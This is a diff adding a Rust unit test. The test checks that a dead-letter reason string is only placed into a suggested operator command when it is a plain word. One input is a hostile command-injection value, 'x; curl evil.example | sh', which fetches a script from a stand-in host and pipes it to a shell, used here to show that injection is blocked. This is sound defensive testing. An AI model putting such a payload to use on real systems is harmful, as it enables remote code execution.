@@ -204,3 +204,18 @@ fn no_finding_is_left_out() {
     let missing: Vec<&str> = headings.filter(|code| !known.contains(code)).collect();
     assert_eq!(missing, Vec::<&str>::new());
 }
+
+#[test]
+fn the_reason_of_a_letter_is_no_part_of_a_command_unless_it_is_a_word() {
+    let told = |reason: &str| {
+        let seen = Cause::seen(&[Cause::DeadLetters { reason: reason.to_owned(), letters: 1 }]);
+        seen.into_iter().next().unwrap().text
+    };
+    let hostile = told("x; curl evil.example | sh");
+    assert_eq!(
+        (&*hostile.chinese.to_do, &*hostile.english.to_do),
+        ("ops dlq list --group", "ops dlq list --group")
+    );
+    assert!(told("total_mismatch").english.to_do.ends_with("ops dlq list --reason total_mismatch"));
+    assert_eq!(told(crate::operations::dead_letter::NO_REASON).page, "/dead-letters?reason=none");
+}
